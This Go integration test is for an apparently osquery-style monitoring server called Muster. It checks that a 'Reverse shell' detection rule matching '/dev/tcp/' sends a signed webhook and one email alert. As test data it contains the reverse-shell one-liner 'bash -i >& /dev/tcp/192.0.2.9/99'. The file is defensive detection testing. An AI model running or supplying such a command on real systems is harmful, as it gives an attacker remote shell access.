package main

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"muster/server/database"
	"muster/server/database/dbtest"
	"muster/server/outputs/smtptest"
)

// From a line that an agent logs to those whom its rule names: a signed webhook and
// a mail, once each.
func TestAlertsReachTheirAlerters(t *testing.T) {
	for _, engine := range []database.Engine{database.SQLite, database.Postgres} {
		t.Run(string(engine), func(t *testing.T) {
			posted := make(chan *http.Request, 10)
			hook := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
				body, _ := io.ReadAll(r.Body)
				r.Body = io.NopCloser(strings.NewReader(string(body)))
				posted <- r
			}))
			defer hook.Close()
			mail := smtptest.Start(t, smtptest.Options{Mode: smtptest.Plain})
			p := newProcess(t, dbtest.URL(t, engine), "MUSTER_CONSOLE_URL=https://console.example.com")
			token := signIn(t, p)
			const key = "a signing key of ours"
			for path, body := range map[string]string{
				"/alerters/add":    fmt.Sprintf(`{"name":"hook","kind":"webhook","settings":{"url":%q,"secret":%q}}`, hook.URL+"/in", key),
				"/email/configure": fmt.Sprintf(`{"email":"muster@example.com","emailRecipients":"soc@example.com","smtpAddress":%q,"smtpPort":%d}`, mail.Host, mail.Port),
				"/rules/add": `{"name":"Reverse shell","severity":"CRITICAL","alerters":"hook, email, nobody",
					"conditions":{"condition":"AND","rules":[{"field":"cmdline","operator":"contains","value":"/dev/tcp/"}]}}`,
			} {
				if status, answer := p.post("/services/api/v1"+path, token, body); status != http.StatusOK {
					t.Fatalf("%s answers %d %s", path, status, answer)
				}
			}
			logRows(p, enrolOne(p), "ls -l", "bash -i >& /dev/tcp/192.0.2.9/99")

			select {
			case r := <-posted:
				checkHook(t, r, key)
			case <-time.After(time.Minute):
				t.Fatal("the webhook was not called")
			}
			eventually(t, time.Minute, "the mail is there", func() bool { return len(mail.Messages()) == 1 })
			if text := mail.Messages()[0].Data; !strings.Contains(text, "Subject: [Muster] CRITICAL: Reverse shell on ") || !strings.Contains(text, "https://console.example.com/alerts/") {
				t.Errorf("the mail says\n%s", text)
			}
			eventually(t, time.Minute, "nothing is left to do", func() bool {
				_, dead := p.call(http.MethodGet, "/services/api/v1/alerters/failed", token, "")
				_, waiting := p.call(http.MethodGet, "/services/api/v1/alerters/failed?state=waiting", token, "")
				return strings.Contains(dead, `"count":0`) && strings.Contains(waiting, `"count":0`)
			})
			if len(posted) != 0 || len(mail.Messages()) != 1 {
				t.Errorf("%d more posts, %d mails", len(posted), len(mail.Messages()))
			}
		})
	}
}

func checkHook(t *testing.T, r *http.Request, key string) {
	t.Helper()
	body, _ := io.ReadAll(r.Body)
	mac := hmac.New(sha256.New, []byte(key))
	mac.Write([]byte(r.Header.Get("X-Muster-Timestamp") + "." + string(body)))
	if want := "sha256=" + hex.EncodeToString(mac.Sum(nil)); r.Header.Get("X-Muster-Signature") != want {
		t.Errorf("signed %s, not %s", r.Header.Get("X-Muster-Signature"), want)
	}
	var told struct {
		Alert struct {
			Name    string
			Columns map[string]string
			Why     []string
		}
		Host struct {
			Identifier string `json:"host_identifier"`
		}
	}
	if err := json.Unmarshal(body, &told); err != nil || told.Alert.Name != "Reverse shell" || told.Host.Identifier != "one-host" ||
		told.Alert.Columns["cmdline"] != "bash -i >& /dev/tcp/192.0.2.9/99" || len(told.Alert.Why) != 1 || !strings.HasPrefix(told.Alert.Why[0], "cmdline contains /dev/tcp/") {
		t.Errorf("%v: %s", err, body)
	}
}

// enrolOne enrols a host and returns its node key.
func enrolOne(p *process) string {
	p.Helper()
	_, answer := p.post("/enroll", "", fmt.Sprintf(`{"enroll_secret":%q,"host_identifier":"one-host","platform_type":"9","host_details":{"os_version":{"name":"Ubuntu","platform":"ubuntu"}}}`, testSecret))
	var got struct {
		Key string `json:"node_key"`
	}
	if err := json.Unmarshal([]byte(answer), &got); err != nil || got.Key == "" {
		p.Fatalf("enrolling answers %s", answer)
	}
	return got.Key
}

// logRows sends a row of process_events for each command line.
func logRows(p *process, key string, commands ...string) {
	p.Helper()
	var lines []map[string]any
	for n, command := range commands {
		lines = append(lines, map[string]any{
			"name": "process_events", "hostIdentifier": "one-host", "unixTime": time.Now().Unix(), "epoch": 0, "counter": n + 1, "action": "added",
			"columns": map[string]string{"pid": fmt.Sprint(100 + n), "cmdline": command},
		})
	}
	body, err := json.Marshal(map[string]any{"node_key": key, "log_type": "result", "data": lines})
	if err != nil {
		p.Fatal(err)
	}
	if status, answer := p.post("/log", "", string(body)); status != http.StatusOK || strings.TrimSpace(answer) != "{}" {
		p.Fatalf("the log answers %d %s", status, answer)
	}
}
